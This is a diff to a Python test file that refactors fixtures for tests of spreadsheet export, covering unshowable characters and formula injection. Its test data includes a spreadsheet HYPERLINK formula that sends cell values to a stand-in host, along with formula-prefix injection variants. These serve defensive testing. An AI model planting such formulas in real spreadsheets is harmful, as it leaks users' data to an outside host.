@@ -9,28 +9,19 @@ import zipfile
 
 import pytest
 from openpyxl import load_workbook
+from transfer_helpers import init_village, write_csv
 
 # What must never reach a spreadsheet cell: characters XML cannot hold, C1 controls, bidi controls.
 UNSHOWABLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
 XLSX_CELL = 32767  # Excel's limit per cell, in UTF-16 code units
 
-AREA = "52/5201/520102/001"
 LEAK = '=HYPERLINK("http://x/?leak="&E2&F2,"Details")'
 FORMULAS = [LEAK, "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'=1+1", "''+1"]
 
 
 @pytest.fixture
 def village(runner):
-    assert runner("init", "--role", "village", "--name", "红星村", "--area", AREA, "--lang", "en").exit_code == 0
-    return runner
-
-
-def write_csv(path, header, rows):
-    with open(path, "w", newline="", encoding="utf-8") as handle:
-        writer = csv.writer(handle)
-        writer.writerow(header)
-        writer.writerows(rows)
-    return str(path)
+    return init_village(runner)
 
 
 def kiosk_grievances(village, tmp_path, descriptions):
